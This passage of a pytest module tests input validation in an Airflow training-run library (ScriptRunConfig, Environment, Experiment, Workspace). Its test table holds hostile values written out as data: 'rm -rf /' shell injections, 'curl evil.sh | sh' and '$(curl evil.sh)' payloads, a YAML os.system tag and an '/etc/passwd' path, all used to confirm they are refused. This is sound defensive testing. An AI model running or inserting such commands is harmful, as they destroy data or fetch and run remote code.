"""Bad input, one table: every argument a user gives ScriptRunConfig, Environment, Experiment, the workspace
connection, ScriptRunOperator, RunStatusSensor and the `amlrun` CLI, given a wrong type, nothing, a megabyte,
odd Unicode, a NUL byte, shell metacharacters or a path out of its folder. Each is refused before anything
runs, by a message that names the argument and the fix, and leaves no run row, no run folder and no stored
byte behind. Values that only look bad (Unicode, shell metacharacters, 100,000 arguments) are accepted, and
reach the script verbatim.

Most rows call the validation directly (a constructor, `Experiment.submit`, an operator built outside a
DAG); the values only known once Airflow renders them are the tasks of one DAG, run once.
"""

from __future__ import annotations

import datetime
import decimal
import json
import os
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from airflow_amlrun import Environment, Experiment, ScriptRunConfig, ScriptRunOperator, Workspace
from airflow_amlrun.environment import DockerSection, PythonSection, SparkSection
from airflow_amlrun.errors import AmlRunError
from airflow_amlrun.sensors.run_status import RunStatusSensor
from tests.conftest import write_script

AMLRUN = str(Path(sys.executable).parent / "amlrun")

MEGABYTE = "x" * 1_000_000
NUL = "\0"
LONE_SURROGATE = "\ud800"  # not Unicode text: no encoding can write it
SHELL = "; rm -rf / #"
UNICODE = "\u03b1 ✓ 日本語 🚀"  # alpha, a check mark, Japanese, a rocket
SECRET = "hunter2"
# A message names a bad value; it never carries a megabyte of it.
LONGEST_MESSAGE = 2_000

CANARY = "print('should never run')\n"
ECHO_ARGV = """\
import json, os, sys
from pathlib import Path

Path("outputs").mkdir(exist_ok=True)
seen = {"argv": sys.argv[1:], "greeting": os.environ.get("GRÜSSE MIT LEERZEICHEN"), "cwd": sorted(os.listdir("."))}
Path("outputs/seen.json").write_text(json.dumps(seen))
print("argc", len(sys.argv) - 1)
"""


@dataclass(frozen=True)
class Given:
    """Files the rows point at, made once for the module; no row changes them."""

    tmp: Path
    src: Path  # train.py (prints a canary), link.py -> a file outside, entraîner.py
    files: Path  # requirements, conda and YAML files, good and bad

    def write(self, name: str, text: str | bytes) -> Path:
        """A file of this row's own, in a folder of its own."""
        folder = Path(tempfile.mkdtemp(dir=self.tmp))
        path = folder / name
        path.write_bytes(text) if isinstance(text, bytes) else path.write_text(textwrap.dedent(text))
        return path


@pytest.fixture(scope="module")
def given(tmp_path_factory: pytest.TempPathFactory) -> Given:
    tmp = tmp_path_factory.mktemp("bad-input")
    src = tmp / "src"
    write_script(src, "train.py", CANARY)
    write_script(src, "entraîner.py", CANARY)
    write_script(tmp / "outside", "secret.py", CANARY)
    (src / "link.py").symlink_to(tmp / "outside" / "secret.py")
    files = tmp / "files"
    files.mkdir()
    for name, text in {
        "requirements.txt": "tomli-w==1.0.0\n",
        "shell.txt": "pandas; rm -rf /\n",
        "editable.txt": "-e .\n",
        "loop_a.txt": "-r loop_b.txt\n",
        "loop_b.txt": "-r loop_a.txt\n",
        "conda-only.yml": "dependencies: [python=3.11, numpy, {pip: [tomli-w]}]\n",
        "not-conda.yml": "- numpy\n",
        "shared/base.txt": "tomli-w==1.0.0\n",
        "team/requirements.txt": "-r ../shared/base.txt\n",
    }.items():
        (files / name).parent.mkdir(parents=True, exist_ok=True)
        (files / name).write_text(text)
    (files / "binary.yml").write_bytes(b"\xff\xfe\x00name: x\n")
    return Given(tmp=tmp, src=src, files=files)


def assert_nothing_recorded(home: Path) -> None:
    """No run row (so none Completed), no run folder, not one byte in the store."""
    if (home / "history.db").exists():
        assert Workspace.get().list_runs() == []
    runs = home / "runs"
    assert not runs.exists() or not any(runs.iterdir())
    store = home / "store"
    assert not store.exists() or [p for p in store.rglob("*") if p.is_file()] == []


# what is called, the way a user calls it


def config(g: Given, **changes: Any) -> ScriptRunConfig:
    return ScriptRunConfig(**{"source_directory": g.src, "script": "train.py", **changes})


def submit(
    g: Given, run_config: ScriptRunConfig | None = None, experiment: str = "bad_input", **kw: Any
) -> Any:
    return Experiment(Workspace.get(), experiment).submit(run_config or config(g), **kw)


def operator(g: Given, **kw: Any) -> ScriptRunOperator:
    return ScriptRunOperator(**{"task_id": "train", "config": config(g), **kw})


def sensor(**kw: Any) -> RunStatusSensor:
    return RunStatusSensor(**{"task_id": "wait", "run_id": "train_1795700859_0852cf59", **kw})


def connection(g: Given, **extras: Any) -> Workspace:
    good = {"database_url": f"sqlite:///{g.tmp}/conn-history.db", "store_url": str(g.tmp / "conn-store")}
    return Workspace.from_connection("team_ws", "amlrun", {**good, **extras})


def registered(name: str = "mine") -> Environment:
    """A user-managed environment registered in the row's workspace (a registry row, not a run)."""
    return Environment(name).register(Workspace.get())


def in_a_dag(build: Callable[[Any], Any]) -> Any:
    """What `build` makes in a DAG, given the output of an upstream task (an XComArg, resolved at run time)."""
    from airflow.sdk import DAG, task

    with DAG("bad_input_rows", schedule=None):

        @task
        def hyperparameters() -> dict[str, float]:
            return {"lr": 0.1}

        return build(hyperparameters())


def from_yaml(g: Given, text: str) -> ScriptRunConfig:
    """A run configuration file with its source folder and a requirements file beside it."""
    path = g.write("run.yaml", text)
    (path.parent / "src").mkdir()
    (path.parent / "src" / "train.py").write_text(CANARY)
    (path.parent / "requirements.txt").write_text("tomli-w==1.0.0\n")
    return ScriptRunConfig.from_yaml(path)


@dataclass(frozen=True)
class Bad:
    """One row: what is called, the bad value, the argument the message must name, a fragment of its fix."""

    call: str
    argument: str
    kind: str
    value: Any
    fix: str
    run: Callable[[Given, Any], object]
    hidden: str | None = None  # a secret the message must not show

    @property
    def id(self) -> str:
        return f"{self.call}:{self.argument.split('=')[0]}:{self.kind}"


C, Y, E = "ScriptRunConfig", "ScriptRunConfig.from_yaml", "Environment"
TABLE = [
    # ScriptRunConfig: the code
    Bad(C, "source_directory", "wrong type", None, "a string or pathlib.Path", lambda g, v: ScriptRunConfig(v, script="train.py")),
    Bad(C, "source_directory", "list", ["src"], "a string or pathlib.Path", lambda g, v: ScriptRunConfig(v, script="train.py")),
    Bad(C, "source_directory", "empty", "", "name the folder that holds the training code", lambda g, v: ScriptRunConfig(v, script="train.py")),
    Bad(C, "source_directory", "huge", MEGABYTE, "at most 4095 bytes", lambda g, v: ScriptRunConfig(v, script="train.py")),
    Bad(C, "source_directory", "NUL", f"src{NUL}", "fix the path", lambda g, v: ScriptRunConfig(v, script="train.py")),
    Bad(C, "source_directory", "not unicode", f"src{LONE_SURROGATE}", "fix the path", lambda g, v: ScriptRunConfig(v, script="train.py")),
    Bad(C, "source_directory", "missing", "gone", "Create it, or point source_directory at", lambda g, v: submit(g, ScriptRunConfig(g.tmp / v, script="train.py"))),
    Bad(C, "source_directory", "a file", "train.py", "point it at the folder", lambda g, v: ScriptRunConfig(g.src / v, script="train.py").resolved()),
    Bad(C, "script", "wrong type", 5, "e.g. 'train.py'", lambda g, v: config(g, script=v)),
    Bad(C, "script", "empty", "", "e.g. 'train.py'", lambda g, v: config(g, script=v)),
    Bad(C, "script", "huge", MEGABYTE, "at most 4095 bytes", lambda g, v: config(g, script=v)),
    Bad(C, "script", "NUL", f"train.py{NUL}", "fix the path", lambda g, v: config(g, script=v)),
    Bad(C, "script", "escape ..", "../outside/secret.py", "move the script in or widen source_directory", lambda g, v: config(g, script=v)),
    Bad(C, "script", "absolute", "/etc/passwd", "give it relative to source_directory", lambda g, v: config(g, script=v)),
    Bad(C, "script", "symlink out", "link.py", "only code inside source_directory is snapshotted", lambda g, v: submit(g, config(g, script=v))),
    Bad(C, "script", "shell", f"train.py{SHELL}", "Files there: entraîner.py, link.py, train.py", lambda g, v: submit(g, config(g, script=v))),
    Bad(C, "script", "typo", "tarin.py", "Files there:", lambda g, v: submit(g, config(g, script=v))),
    Bad(C, "script=", "with command", "echo hi", "command= (a shell command)", lambda g, v: config(g, command=v)),
    Bad(C, "command", "wrong type", 5, "non-empty shell string", lambda g, v: ScriptRunConfig(g.src, command=v)),
    Bad(C, "command", "empty", "  ", "non-empty shell string", lambda g, v: ScriptRunConfig(g.src, command=v)),
    Bad(C, "command", "empty list", [], "non-empty list of strings", lambda g, v: ScriptRunConfig(g.src, command=v)),
    Bad(C, "command", "NUL", f"echo {NUL}", "remove it", lambda g, v: ScriptRunConfig(g.src, command=v)),
    Bad(C, "command[1]", "NUL word", ["echo", NUL], "remove it", lambda g, v: ScriptRunConfig(g.src, command=v)),
    Bad(C, "command", "huge", "echo " + "x" * 200_000, "Write the value to a file", lambda g, v: ScriptRunConfig(g.src, command=v)),
    Bad(C, "arguments=", "with command", ["--alpha"], "write them into the command itself", lambda g, v: ScriptRunConfig(g.src, command="echo", arguments=v)),
    # ScriptRunConfig: the arguments and variables the script gets
    Bad(C, "arguments", "one string", "--alpha 0.5", "Split a command line into its words", lambda g, v: config(g, arguments=v)),
    Bad(C, "arguments", "wrong type", {"alpha": 0.5}, "Split a command line into its words", lambda g, v: config(g, arguments=v)),
    Bad(C, "arguments[1]", "None", ["--alpha", None], "json.dumps(value)", lambda g, v: config(g, arguments=v)),
    Bad(C, "arguments[1]", "nan", ["--alpha", float("nan")], "give a string, number, boolean or path", lambda g, v: config(g, arguments=v)),
    Bad(C, "arguments[0]", "bytes", [b"--alpha"], "give a string, number, boolean or path", lambda g, v: config(g, arguments=v)),
    Bad(C, "arguments[1]", "NUL", ["--alpha", f"0.5{NUL}"], "remove it", lambda g, v: config(g, arguments=v)),
    Bad(C, "arguments[0]", "huge", [MEGABYTE], "Write the value to a file", lambda g, v: config(g, arguments=v)),
    Bad(C, "arguments (200000 words)", "too many", ["0123456789"] * 200_000, "Pass bulky input through a file", lambda g, v: config(g, arguments=v)),
    Bad(C, "arguments[0]", "not unicode", [LONE_SURROGATE], "decode the bytes", lambda g, v: config(g, arguments=v)),
    Bad(C, "environment_variables", "wrong type", ["MODE=fast"], "{'MY_VAR': 'value'}", lambda g, v: config(g, environment_variables=v)),
    Bad(C, "environment_variables", "name with =", {"MODE=FAST": "1"}, "without '='", lambda g, v: config(g, environment_variables=v)),
    Bad(C, "environment_variables", "empty name", {"": "1"}, "use a non-empty string", lambda g, v: config(g, environment_variables=v)),
    Bad(C, "environment_variables['MODE']", "None", {"MODE": None}, "give the value as a string", lambda g, v: config(g, environment_variables=v)),
    Bad(C, "environment_variables['MODE']", "NUL", {"MODE": f"fast{NUL}"}, "remove it", lambda g, v: config(g, environment_variables=v)),
    Bad(C, "environment_variables['MODE']", "huge", {"MODE": MEGABYTE}, "Write the value to a file", lambda g, v: config(g, environment_variables=v)),
    Bad(C, "secret_environment_variables", "wrong type", ["TOKEN"], "{'MY_VAR': 'value'}", lambda g, v: config(g, secret_environment_variables=v)),
    Bad(C, "secret_environment_variables['TOKEN']", "dict", {"TOKEN": {"password": SECRET}}, "give the value as a string", lambda g, v: config(g, secret_environment_variables=v), hidden=SECRET),
    Bad(C, "secret_environment_variables['TOKEN']", "NUL", {"TOKEN": f"{SECRET}{NUL}"}, "remove it", lambda g, v: config(g, secret_environment_variables=v), hidden=SECRET),
    # ScriptRunConfig: where, how long, with what
    Bad(C, "compute_target", "wrong type", 5, "must be 'local' or the id of an Airflow connection", lambda g, v: config(g, compute_target=v)),
    Bad(C, "compute_target", "empty", "", "must be 'local' or the id of an Airflow connection", lambda g, v: config(g, compute_target=v)),
    Bad(C, "compute_target", "shell", f"local{SHELL}", "use 'local', 'docker' or the id of an Airflow connection", lambda g, v: config(g, compute_target=v)),
    Bad(C, "compute_target", "huge", MEGABYTE, "at most 250 characters", lambda g, v: config(g, compute_target=v)),
    Bad(C, "compute_target", "NUL", f"local{NUL}", "at most 250 characters", lambda g, v: config(g, compute_target=v)),
    Bad(C, "compute target 'gpu-cluster'", "unknown", "gpu-cluster", "Use compute_target='local'", lambda g, v: submit(g, config(g, compute_target=v))),
    Bad(C, "environment", "wrong type", 5, "must be an Environment or the name of a registered one", lambda g, v: config(g, environment=v)),
    Bad(C, "environment", "empty", "", "write 'name', 'name:version'", lambda g, v: config(g, environment=v)),
    Bad(C, "environment", "shell", f"sk{SHELL}", "use letters, digits", lambda g, v: config(g, environment=v)),
    Bad(C, "environment named 'no-such-env'", "unknown", "no-such-env", "register it first", lambda g, v: submit(g, config(g, environment=v))),
    Bad(C, "python.interpreter_path", "shell, taken literally", f"/usr/bin/python3{SHELL}", "Point python.interpreter_path at a Python interpreter", lambda g, v: submit(g, config(g, environment=Environment("mine", python=PythonSection(interpreter_path=v))))),
    Bad(C, "max_run_duration_seconds", "wrong type", "10m", "None for no limit", lambda g, v: config(g, max_run_duration_seconds=v)),
    Bad(C, "max_run_duration_seconds", "zero", 0, "a positive number of seconds", lambda g, v: config(g, max_run_duration_seconds=v)),
    Bad(C, "max_run_duration_seconds", "infinite", float("inf"), "None for no limit", lambda g, v: config(g, max_run_duration_seconds=v)),
    Bad(C, "snapshot_max_size_mb", "nan", float("nan"), "None for the [amlrun] default", lambda g, v: config(g, snapshot_max_size_mb=v)),
    Bad(C, "snapshot_max_files", "fraction", 2.5, "a whole number of files", lambda g, v: config(g, snapshot_max_files=v)),
    Bad(C, "is too large", "over the limit", 1, "raise the limit", lambda g, v: submit(g, config(g, snapshot_max_files=v))),
    # ScriptRunConfig.from_yaml
    Bad(Y, "Run configuration file path", "wrong type", 5, "a string or pathlib.Path", lambda g, v: ScriptRunConfig.from_yaml(v)),
    Bad(Y, "Run configuration file", "missing", "missing.yaml", "Check the path", lambda g, v: ScriptRunConfig.from_yaml(g.tmp / v)),
    Bad(Y, "Run configuration file", "a folder", "files", "name the file inside it", lambda g, v: ScriptRunConfig.from_yaml(g.tmp / v)),
    Bad(Y, "Run configuration file path", "NUL", f"run{NUL}.yaml", "fix the path", lambda g, v: ScriptRunConfig.from_yaml(v)),
    Bad(Y, "Run configuration file", "binary", "binary.yml", "save it as UTF-8", lambda g, v: ScriptRunConfig.from_yaml(g.files / v)),
    Bad(Y, "Run configuration file", "a list", "- src\n", "a mapping of fields", from_yaml),
    Bad(Y, "Run configuration file", "python tag", "source_directory: src\nscript: !!python/object/apply:os.system [id]\n", "Fix the YAML at the line shown", from_yaml),
    Bad(Y, "source_directory", "null", "source_directory: null\nscript: train.py\n", "a string or pathlib.Path", from_yaml),
    Bad(Y, "'scirpt'", "typo", "source_directory: src\nscirpt: train.py\n", "known: arguments", from_yaml),
    Bad(Y, "secret_environment_variables", "a secret in a file", f"source_directory: src\nscript: train.py\nsecret_environment_variables: {{TOKEN: {SECRET}}}\n", "ScriptRunOperator(secret_environment_variables=...)", from_yaml, hidden=SECRET),
    Bad(Y, "arguments", "one string", "source_directory: src\nscript: train.py\narguments: --alpha 0.5\n", "Split a command line into its words", from_yaml),
    Bad(Y, "python.version = 3.1", "unquoted 3.10", "source_directory: src\nscript: train.py\nenvironment: {name: e, python: {version: 3.10}}\n", "an unquoted 3.10 is read as the number 3.1", from_yaml),
    Bad(Y, "python.requirements_file", "missing beside the YAML", "source_directory: src\nscript: train.py\nenvironment: {name: e, python: {requirements_file: nowhere.txt}}\n", "Check the path", from_yaml),
    Bad(Y, "python.requirements_file", "a conda file", "source_directory: src\nscript: train.py\nenvironment: {{name: e, python: {{requirements_file: {files}/conda-only.yml}}}}\n", "use python.conda_file", lambda g, v: from_yaml(g, v.format(files=g.files))),
    # Environment
    Bad(E, "Environment name", "wrong type", 5, "use letters, digits, '.', '_' and '-'", lambda g, v: Environment(v)),
    Bad(E, "Environment name", "empty", "", "use letters, digits, '.', '_' and '-'", lambda g, v: Environment(v)),
    Bad(E, "Environment name", "huge", MEGABYTE, "at most 255 characters", lambda g, v: Environment(v)),
    Bad(E, "Environment name", "unicode", "модель", "use letters, digits, '.', '_' and '-'", lambda g, v: Environment(v)),
    Bad(E, "Environment name", "shell", f"sk{SHELL}", "use letters, digits, '.', '_' and '-'", lambda g, v: Environment(v)),
    Bad(E, "Environment name", "newline", "sk\n", "use letters, digits, '.', '_' and '-'", lambda g, v: Environment(v)),
    Bad(E, "version=5", "wrong type", 5, "leave it unset", lambda g, v: Environment("mine", version=v)),
    Bad(E, "python must be a PythonSection", "dict", {"pip_requirements": ["pandas"]}, "Environment.from_dict", lambda g, v: Environment("mine", python=v)),
    Bad(E, "docker must be a DockerSection", "None", None, "Environment.from_dict", lambda g, v: Environment("mine", docker=v)),
    Bad(E, "environment_variables", "wrong type", ["MODE=fast"], "{'MY_VAR': 'value'}", lambda g, v: Environment("mine", environment_variables=v)),
    Bad(E, "environment_variables['MODE']", "None", {"MODE": None}, "give the value as a string", lambda g, v: Environment("mine", environment_variables=v)),
    Bad(E, "environment_variables['MODE']", "NUL", {"MODE": NUL}, "give the value as a string", lambda g, v: Environment("mine", environment_variables=v)),
    Bad(E, "python.version", "not a version", "three", "write it as '3.11'", lambda g, v: Environment("mine", python=PythonSection(version=v))),
    Bad(E, "python.version = 3.1", "unquoted 3.10", 3.10, "write the version as a string such as '3.11'", lambda g, v: Environment("mine", python=PythonSection(version=v))),
    Bad(E, "python.user_managed_dependencies", "wrong type", "no", "must be True, False or None", lambda g, v: Environment("mine", python=PythonSection(user_managed_dependencies=v))),
    Bad(E, "python.interpreter_path", "relative", "python3", "absolute path such as '/usr/bin/python3'", lambda g, v: Environment("mine", python=PythonSection(interpreter_path=v))),
    Bad(E, "python.interpreter_path", "wrong type", 3, "a string or pathlib.Path", lambda g, v: Environment("mine", python=PythonSection(interpreter_path=v))),
    Bad(E, "python.interpreter_path", "NUL", f"/usr/bin/python3{NUL}", "fix the path", lambda g, v: Environment("mine", python=PythonSection(interpreter_path=v))),
    Bad(E, "python.pip_requirements", "one string", "pandas", "Environment.from_pip_requirements", lambda g, v: Environment("mine", python=PythonSection(pip_requirements=v))),
    Bad(E, "'pandas; rm -rf /'", "shell", ["pandas; rm -rf /"], "Write it as 'name', 'name==1.2'", lambda g, v: Environment("mine", python=PythonSection(pip_requirements=v))),
    Bad(E, "'pandas$(curl evil.sh)'", "command substitution", ["pandas$(curl evil.sh)"], "Write it as 'name', 'name==1.2'", lambda g, v: Environment("mine", python=PythonSection(pip_requirements=v))),
    Bad(E, "'../wheels/x.whl'", "a path", ["../wheels/x.whl"], "build and publish a wheel", lambda g, v: Environment("mine", python=PythonSection(pip_requirements=v))),
    Bad(E, "requirement", "huge", [MEGABYTE], "give one requirement such as 'pandas>=2' per item", lambda g, v: Environment("mine", python=PythonSection(pip_requirements=v))),
    Bad(E, "requirement 5", "wrong type", [5], "a string such as 'pandas>=2'", lambda g, v: Environment("mine", python=PythonSection(pip_requirements=v))),
    Bad(E, "index_url", "not a URL", "pypi.internal", "http(s):// or file:// URL", lambda g, v: Environment("mine", python=PythonSection(index_url=v))),
    Bad(E, "python.extra_index_urls", "one string", "https://pypi.internal/simple", "a list of strings", lambda g, v: Environment("mine", python=PythonSection(extra_index_urls=v))),
    Bad(E, "docker.base_image", "shell", f"python:3.11{SHELL}", "[registry[:port]/]name[:tag][@digest]", lambda g, v: Environment("mine", docker=DockerSection(base_image=v))),
    Bad(E, "docker.base_image", "Dockerfile injection", "python:3.11\nRUN curl evil.sh | sh", "[registry[:port]/]name[:tag][@digest]", lambda g, v: Environment("mine", docker=DockerSection(base_image=v))),
    Bad(E, "docker.base_image", "empty", "", "such as 'python:3.11-slim'", lambda g, v: Environment("mine", docker=DockerSection(base_image=v))),
    Bad(E, "docker.dockerfile", "no FROM", "RUN pip install pandas\n", "'FROM python:3.11-slim'", lambda g, v: Environment("mine", docker=DockerSection(dockerfile=v))),
    Bad(E, "docker.dockerfile", "NUL", f"FROM python:3.11{NUL}\n", "fix the file", lambda g, v: Environment("mine", docker=DockerSection(dockerfile=v))),
    Bad(E, "spark.packages", "one string", "org.apache.spark:spark-avro_2.12:3.5.1", "a list of strings", lambda g, v: Environment("mine", spark=SparkSection(packages=v))),
    Bad(E, "spark package", "shell", [f"org.apache.spark:spark-avro_2.12:3.5.1{SHELL}"], "group:artifact:version", lambda g, v: Environment("mine", spark=SparkSection(packages=v))),
    # Environment.from_dict / load
    Bad("Environment.from_dict", "An environment must be a mapping", "a list", ["pandas"], "a mapping of fields", lambda g, v: Environment.from_dict(v)),
    Bad("Environment.from_dict", "python.pyhton", "typo", {"name": "e", "python": {"pyhton": "3.11"}}, "known: python.conda_file", lambda g, v: Environment.from_dict(v)),
    Bad("Environment.from_dict", "python.pip_requirements[0]", "null", {"name": "e", "python": {"pip_requirements": [None]}}, "quote it in YAML", lambda g, v: Environment.from_dict(v)),
    Bad("Environment.from_dict", "docker.dockerfile_path", "NUL", {"name": "e", "docker": {"dockerfile_path": f"Dockerfile{NUL}"}}, "fix the path", lambda g, v: Environment.from_dict(v)),
    Bad("Environment.load", "Environment file path", "wrong type", 5, "a string or pathlib.Path", lambda g, v: Environment.load(v)),
    Bad("Environment.load", "Environment file", "missing", "env.yaml", "Check the path", lambda g, v: Environment.load(g.tmp / v)),
    Bad("Environment.load", "Environment file", "binary", "binary.yml", "save it as UTF-8", lambda g, v: Environment.load(g.files / v)),
    # Environment.from_pip_requirements / from_conda_specification
    Bad("Environment.from_pip_requirements", "file_path", "wrong type", None, "a string or pathlib.Path", lambda g, v: Environment.from_pip_requirements("mine", v)),
    Bad("Environment.from_pip_requirements", "file_path", "huge", MEGABYTE, "at most 4095 bytes", lambda g, v: Environment.from_pip_requirements("mine", v)),
    Bad("Environment.from_pip_requirements", "file_path", "NUL", f"requirements.txt{NUL}", "fix the path", lambda g, v: Environment.from_pip_requirements("mine", v)),
    Bad("Environment.from_pip_requirements", "Requirements file", "missing", "nowhere.txt", "Check the path", lambda g, v: Environment.from_pip_requirements("mine", g.files / v)),
    Bad("Environment.from_pip_requirements", "Requirements file", "a folder", "shared", "name the file inside it", lambda g, v: Environment.from_pip_requirements("mine", g.files / v)),
    Bad("Environment.from_pip_requirements", "shell.txt:1", "shell line", "shell.txt", "Write it as 'name', 'name==1.2'", lambda g, v: Environment.from_pip_requirements("mine", g.files / v)),
    Bad("Environment.from_pip_requirements", "option '-e .'", "editable", "editable.txt", "publish a wheel to an index", lambda g, v: Environment.from_pip_requirements("mine", g.files / v)),
    Bad("Environment.from_pip_requirements", "include each other in a loop", "-r loop", "loop_a.txt", "Remove one -r line", lambda g, v: Environment.from_pip_requirements("mine", g.files / v)),
    Bad("Environment.from_pip_requirements", "Environment name", "shell", f"mine{SHELL}", "use letters, digits", lambda g, v: Environment.from_pip_requirements(v, g.files / "requirements.txt")),
    Bad("Environment.from_pip_requirements", "Requirements file 'nowhere/requirements.txt'", "relative, outside a DAG file", "nowhere/requirements.txt", "relative paths start at the working directory", lambda g, v: Environment.from_pip_requirements("mine", v)),
    Bad("Environment.from_pip_requirements", "is a conda environment file", "a conda file", "conda-only.yml", "use Environment.from_conda_specification('mine'", lambda g, v: Environment.from_pip_requirements("mine", g.files / v)),
    Bad("Environment.from_pip_requirements", "file_path", "neither path nor list", {"pandas": ">=2"}, "or a list of requirements such as ['pandas>=2']", lambda g, v: Environment.from_pip_requirements("mine", v)),
    Bad("Environment.from_pip_requirements", "requirements[1]", "list, shell item", ["pandas", "pandas$(curl evil.sh)"], "Write it as 'name', 'name==1.2'", lambda g, v: Environment.from_pip_requirements("mine", v)),
    Bad("Environment.from_pip_requirements", "requirements[0]", "list, wrong type", [5], "a string such as 'pandas>=2'", lambda g, v: Environment.from_pip_requirements("mine", v)),
    Bad("Environment.from_conda_specification", "file_path", "wrong type", 5, "a string or pathlib.Path", lambda g, v: Environment.from_conda_specification("mine", v)),
    Bad("Environment.from_conda_specification", "Conda environment file", "not conda", "not-conda.yml", "a 'dependencies' list", lambda g, v: Environment.from_conda_specification("mine", g.files / v)),
    Bad("Environment.from_conda_specification", "conda packages numpy", "conda-only", "conda-only.yml", "Move these packages into the 'pip:' section", lambda g, v: Environment.from_conda_specification("mine", g.files / v)),
    # Environment.from_docker_image / from_dockerfile
    Bad("Environment.from_docker_image", "image", "wrong type", None, "such as 'python:3.11-slim'", lambda g, v: Environment.from_docker_image("mine", v)),
    Bad("Environment.from_docker_image", "image", "empty", "", "such as 'python:3.11-slim'", lambda g, v: Environment.from_docker_image("mine", v)),
    Bad("Environment.from_docker_image", "image", "shell", f"python:3.11{SHELL}", "with a lowercase name", lambda g, v: Environment.from_docker_image("mine", v)),
    Bad("Environment.from_docker_image", "image", "unicode", "пайтон:3.11", "with a lowercase name", lambda g, v: Environment.from_docker_image("mine", v)),
    Bad("Environment.from_docker_image", "image", "huge", MEGABYTE, "with a lowercase name", lambda g, v: Environment.from_docker_image("mine", v)),
    Bad("Environment.from_docker_image", "pip_requirements", "wrong type", 5, "a list of requirements such as ['pandas>=2']", lambda g, v: Environment.from_docker_image("mine", "python:3.11-slim", pip_requirements=v)),
    Bad("Environment.from_docker_image", "pip_requirements or conda_specification", "both", ["pandas"], "not both", lambda g, v: Environment.from_docker_image("mine", "python:3.11-slim", pip_requirements=v, conda_specification=g.files / "conda-only.yml")),
    Bad("Environment.from_dockerfile", "dockerfile", "wrong type", None, "the path of a Dockerfile or its text", lambda g, v: Environment.from_dockerfile("mine", v)),
    Bad("Environment.from_dockerfile", "dockerfile", "empty", "", "the path of a Dockerfile or its text", lambda g, v: Environment.from_dockerfile("mine", v)),
    Bad("Environment.from_dockerfile", "Dockerfile", "missing", "Dockerfile.gpu", "Check the path", lambda g, v: Environment.from_dockerfile("mine", g.tmp / v)),
    Bad("Environment.from_dockerfile", "docker.dockerfile", "no FROM", "RUN pip install pandas\nCMD python\n", "'FROM python:3.11-slim'", lambda g, v: Environment.from_dockerfile("mine", v)),
    # the registry
    Bad("Environment.register", "workspace", "wrong type", None, "e.g. Workspace.get()", lambda g, v: Environment("mine").register(v)),
    Bad("Environment.get", "workspace", "a string", "default", "e.g. Workspace.get()", lambda g, v: Environment.get(v, "mine")),
    Bad("Environment.get", "name", "wrong type", 5, "use letters, digits", lambda g, v: Environment.get(Workspace.get(), v)),
    Bad("Environment.get", "name", "empty", "", "use letters, digits", lambda g, v: Environment.get(Workspace.get(), v)),
    Bad("Environment.get", "No environment named 'no-such-env'", "unknown", "no-such-env", "register it first", lambda g, v: Environment.get(Workspace.get(), v)),
    Bad("Environment.get", "version", "not a number", "latest", "a version number such as '2'", lambda g, v: Environment.get(Workspace.get(), "mine", version=v)),
    Bad("Environment.get", "has no version '7'", "not registered", "7", "its versions are 1", lambda g, v: (registered(), Environment.get(Workspace.get(), "mine", version=v))),
    Bad("Environment.get", "version ('1') or a label", "both", "production", "not both", lambda g, v: Environment.get(Workspace.get(), "mine", version="1", label=v)),
    Bad("Environment.get", "label", "wrong type", 5, "a string such as 'production'", lambda g, v: Environment.get(Workspace.get(), "mine", label=v)),
    Bad("Environment.set_label", "Label 'prod:1'", "colon", "prod:1", "without ':' or '@'", lambda g, v: (registered(), Environment.set_label(Workspace.get(), "mine", "1", v))),
    Bad("Environment.set_label", "Label 'latest'", "reserved", "latest", "always means the newest version", lambda g, v: (registered(), Environment.set_label(Workspace.get(), "mine", "1", v))),
    Bad("Environment.set_label", "label", "huge", MEGABYTE, "at most 64", lambda g, v: Environment.set_label(Workspace.get(), "mine", "1", v)),
    Bad("Environment.set_label", "label", "wrong type", 5, "a string such as 'production'", lambda g, v: Environment.set_label(Workspace.get(), "mine", "1", v)),
    Bad("Environment.list", "name", "shell", f"mine{SHELL}", "use letters, digits", lambda g, v: Environment.list(Workspace.get(), v)),
    # Experiment
    Bad("Experiment", "experiment name", "space", "my experiment", "use 3-36 characters", lambda g, v: submit(g, experiment=v)),
    Bad("Experiment", "experiment name", "empty", "", "use 3-36 characters", lambda g, v: submit(g, experiment=v)),
    Bad("Experiment", "experiment name", "huge", MEGABYTE, "use 3-36 characters", lambda g, v: submit(g, experiment=v)),
    Bad("Experiment", "experiment name", "unicode", "эксперимент", "use 3-36 characters", lambda g, v: submit(g, experiment=v)),
    Bad("Experiment", "experiment name", "shell", f"abc{SHELL}", "use 3-36 characters", lambda g, v: submit(g, experiment=v)),
    Bad("Experiment", "workspace", "wrong type", None, "e.g. Workspace.get()", lambda g, v: Experiment(v, "bad_input")),
    Bad("Experiment.submit", "submit needs a ScriptRunConfig", "a dict", {"script": "train.py"}, "ScriptRunConfig.from_yaml(path)", lambda g, v: Experiment(Workspace.get(), "bad_input").submit(v)),
    Bad("Experiment.submit", "tags", "wrong type", ["nightly"], "{'team': 'vision'}", lambda g, v: submit(g, tags=v)),
    Bad("Experiment.submit", "tags['params']", "dict", {"params": {"lr": 0.1}}, "json.dumps(value)", lambda g, v: submit(g, tags=v)),
    Bad("Experiment.submit", "tags['team']", "NUL", {"team": f"vision{NUL}"}, "remove it", lambda g, v: submit(g, tags=v)),
    Bad("Experiment.submit", "reattach_on_retry", "wrong type", "no", "True or False", lambda g, v: submit(g, reattach_on_retry=v)),
    # the workspace and its connection
    Bad("Workspace.get", "conn_id", "wrong type", 5, "leave it None for the default workspace", lambda g, v: Workspace.get(v)),
    Bad("Workspace.get", "conn_id", "empty", "", "leave it None for the default workspace", lambda g, v: Workspace.get(v)),
    Bad("Workspace.get", "conn_id", "shell", f"team{SHELL}", "leave it None for the default workspace", lambda g, v: Workspace.get(v)),
    Bad("Workspace.get", "conn_id", "huge", MEGABYTE, "at most 250 characters", lambda g, v: Workspace.get(v)),
    Bad("Workspace.get", "No Airflow connection 'no_such_ws'", "unknown", "no_such_ws", "Create one of type 'amlrun'", lambda g, v: Workspace.get(v)),
    Bad("Workspace.from_connection", "type 'http'", "wrong type", "http", "must be of type 'amlrun'", lambda g, v: Workspace.from_connection("team_ws", v, {})),
    Bad("Workspace.from_connection", "store_url", "missing", {"database_url": "sqlite://"}, "set database_url", lambda g, v: Workspace.from_connection("team_ws", "amlrun", v)),
    Bad("Workspace.from_connection", "'storeurl'", "unknown extra", {"storeurl": "/srv"}, "Fix the spelling", lambda g, v: connection(g, **v)),
